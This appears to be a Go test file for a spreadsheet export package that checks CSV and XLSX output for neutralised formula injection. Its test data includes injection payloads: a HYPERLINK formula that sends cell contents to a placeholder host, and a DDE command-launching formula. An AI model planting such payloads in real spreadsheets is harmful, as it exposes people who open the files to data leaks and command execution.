package sheet

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"io"
	"strings"
	"testing"

	"golang.org/x/text/encoding/simplifiedchinese"
)

// formulaNames are cells an attacker would put into a name or an address
// for a spreadsheet to evaluate.
var formulaNames = []string{
	`=HYPERLINK("http://example.invalid/?"&A1,"点击")`,
	`=cmd|' /C calc'!A0`,
	"+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1",
	"  =1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	"-12.50", // a negative amount in a text column is text too
}

// Evaluable reports whether a spreadsheet would read the CSV cell c as a
// formula: it begins, after spaces, with a formula character and is not a
// plain number in a number column.
func Evaluable(c string, number bool) bool {
	if number && plainNumber(c) {
		return false
	}
	t := strings.TrimLeft(c, " \u3000")
	for _, r := range formulaStarts {
		if strings.HasPrefix(t, string(r)) {
			return true
		}
	}
	return false
}

func TestSafeCell(t *testing.T) {
	tests := map[string]string{
		"张三": "张三", "": "", "  ": "  ", "341523196401010027": "341523196401010027", "2024-05-06": "2024-05-06",
		"=1+1": "'=1+1", "-5": "'-5", "@x": "'@x", "\tx": "'\tx", " =1": "' =1", "＝1": "'＝1", "'=1": "'=1",
	}
	for in, want := range tests {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
	for _, s := range []string{"0", "960", "-12.50", "0.5", "-0"} {
		if !plainNumber(s) {
			t.Errorf("plainNumber(%q) = false", s)
		}
	}
	for _, s := range []string{"", "-", "1.", ".5", "1e5", "+1", "-1+1", "1,000", "--1", "１"} {
		if plainNumber(s) {
			t.Errorf("plainNumber(%q) = true", s)
		}
	}
}

// TestWriteCSVNeutralises writes every formula-leading name into every
// column of a CSV file, in both encodings, and checks that no cell of the
// file is evaluable, that a number column keeps its negative amounts as
// numbers and that nothing else changed but the apostrophe.
func TestWriteCSVNeutralises(t *testing.T) {
	header := []string{"=姓名", "住址", "金额（元）"}
	var rows [][]string
	for _, n := range formulaNames {
		rows = append(rows, []string{n, n, "-12.50"}, []string{"张三", "城关镇", n})
	}
	for _, enc := range []string{EncodingUTF8, EncodingGB18030} {
		t.Run(enc, func(t *testing.T) {
			data := write(t, header, WriterOptions{Encoding: enc, Numbers: []int{2}}, rows...)
			var text []byte
			if enc == EncodingGB18030 {
				var err error
				if text, err = simplifiedchinese.GB18030.NewDecoder().Bytes(data); err != nil {
					t.Fatal(err)
				}
			} else {
				text = bytes.TrimPrefix(data, utf8BOM)
			}
			recs, err := csv.NewReader(bytes.NewReader(text)).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			if len(recs) != len(rows)+1 {
				t.Fatalf("%d records, want %d", len(recs), len(rows)+1)
			}
			for i, rec := range recs {
				for j, c := range rec {
					if Evaluable(c, i > 0 && j == 2) {
						t.Errorf("record %d, cell %d %q is evaluable", i+1, j+1, c)
					}
					want := header[j]
					if i > 0 {
						want = rows[i-1][j]
					}
					want = strings.ReplaceAll(want, "\r", "") // encoding/csv reads a lone CR in a quoted cell as nothing
					if c != want && c != "'"+want {
						t.Errorf("record %d, cell %d = %q, want %q with at most an apostrophe before it", i+1, j+1, c, want)
					}
				}
				if i > 0 && rows[i-1][2] == "-12.50" && rec[2] != "-12.50" {
					t.Errorf("record %d: the amount -12.50 of a number column became %q", i+1, rec[2])
				}
			}
		})
	}
}

// TestWriteDocumentNeutralises checks a bank file: in CSV its Money column
// keeps amounts as numbers and every other cell is neutralised; in a
// workbook no cell is a formula.
func TestWriteDocumentNeutralises(t *testing.T) {
	header := []string{"序号", "姓名", "金额（元）"}
	doc := &Document{Title: "t", Money: []int{2}}
	var rows [][]string
	for i, n := range formulaNames {
		rows = append(rows, []string{string(rune('1' + i%9)), n, "-960.00"})
	}
	rows = append(rows, []string{"合计", "=1+1", "=SUM(C2:C9)"})
	data := write(t, header, WriterOptions{Document: doc}, rows...)
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, utf8BOM))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, rec := range recs[1:] {
		for j, c := range rec {
			if Evaluable(c, j == 2) {
				t.Errorf("row %d, cell %d %q is evaluable", i+1, j+1, c)
			}
		}
		if i < len(formulaNames) && rec[2] != "-960.00" {
			t.Errorf("row %d: amount %q, want -960.00", i+1, rec[2])
		}
	}
	for _, opt := range []WriterOptions{{Format: FormatXLSX, Document: doc}, {Format: FormatXLSX}} {
		book := write(t, header, opt, rows...)
		if f := formulaCells(t, book); f != 0 {
			t.Errorf("the workbook (document %v) has %d formula cells", opt.Document != nil, f)
		}
	}
}

// formulaCells counts the formula elements in the worksheets of a
// workbook.
func formulaCells(t *testing.T, book []byte) int {
	t.Helper()
	zr, err := zip.NewReader(bytes.NewReader(book), int64(len(book)))
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range zr.File {
		if !strings.HasPrefix(f.Name, "xl/worksheets/") {
			continue
		}
		rc, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		b, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		n += bytes.Count(b, []byte("<f>")) + bytes.Count(b, []byte("<f "))
	}
	return n
}
